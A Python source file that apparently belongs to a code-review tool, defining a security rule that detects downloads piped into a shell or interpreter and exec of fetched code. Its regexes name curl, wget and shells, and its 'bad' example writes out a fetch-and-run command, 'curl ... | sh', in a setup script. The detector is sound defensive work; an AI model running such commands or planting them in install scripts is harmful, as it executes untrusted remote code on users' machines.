"""Programs downloaded and run at once in Python: in a shell, or by `exec`."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from repopilot.review.rules.python.tree import PYTHON, PythonTree, at, on_tree, text_of
from repopilot.review.rules.rule import Match, Rule

_RUNS = re.compile(r"^(os\.(system|popen)|subprocess\.\w+|commands\.get\w*output|asyncio\.create_subprocess_shell)$")
_INTERPRETER = r"(?:\S*/)?(?:(?:ba|z|da|k|a)?sh|python[\d.]*|perl|ruby|node|pwsh)\b"
_PIPED = re.compile(
    rf"\b(?:curl|wget|fetch)\b[^;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?{_INTERPRETER}|"
    rf"\b(?:{_INTERPRETER}|eval|source|\.)\s+(?:-\S+\s+)*[\"']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"
)
_DOWNLOADS = re.compile(r"(^|\.)(urlopen|urlretrieve)$|^(requests|httpx|urllib3)\.(get|request|post)$")


def _piped_downloads(tree: PythonTree) -> Iterator[Match]:
    """Commands that pipe a download into an interpreter, and code that is downloaded and executed."""
    for call in tree.of(ast.Call):
        name = tree.called(call)
        if (_RUNS.match(name) and _PIPED.search(_command(call))) or (
            name in ("exec", "eval") and call.args and _downloads(tree, call.args[0])
        ):
            yield at(call)


def _command(call: ast.Call) -> str:
    """The constant texts of a call's arguments, in their order."""
    values = [*call.args, *(k.value for k in call.keywords if k.arg in ("args", "command", "cmd"))]
    return " ".join(text for value in values for node in ast.walk(value) if (text := text_of(node)) is not None)


def _downloads(tree: PythonTree, argument: ast.expr) -> bool:
    return any(isinstance(n, ast.Call) and _DOWNLOADS.search(tree.called(n)) for n in ast.walk(argument))


RULES = (
    Rule(
        "piped-download",
        "security",
        "high",
        PYTHON,
        on_tree(_piped_downloads),
        bad='import os\nfrom setuptools import setup\n\nos.system("curl -s https://example.com/x.sh | sh")\nsetup()\n',
        good='import os\n\nos.system("curl -o x.sh https://example.com/x.sh | tee log")\n',
        cwe=494,
    ),
)
